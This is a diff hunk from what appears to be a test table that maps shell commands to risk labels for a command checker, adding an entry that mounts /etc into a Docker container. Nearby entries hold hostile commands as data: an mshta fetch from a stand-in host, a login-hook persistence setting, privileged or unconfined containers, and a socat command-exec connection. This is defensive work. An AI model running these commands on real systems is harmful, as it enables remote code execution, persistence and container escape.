@@ -113,6 +113,7 @@ ASKED = {
     "text from the network, a program of Windows": ("mshta http://x.example/a.hta", "machine"),
     "settings of a Mac": ("defaults write com.apple.loginwindow LoginHook /x.sh", "machine"),
     "a program of the machine, gone": ("brew uninstall jq", "packages.remove"),
+    "a folder of the machine, lent to a container": ("docker run -v /etc:/etc x", "privilege.lent"),
     "powers of a container": ("docker run --cap-add=SYS_ADMIN x", "privilege.container"),
     "a container without its fence": ("docker run --security-opt apparmor=unconfined x", "privilege.container"),
     "a program at the end of a connection": ("socat TCP:192.0.2.1:99 SYSTEM:id", "leak.socket"),
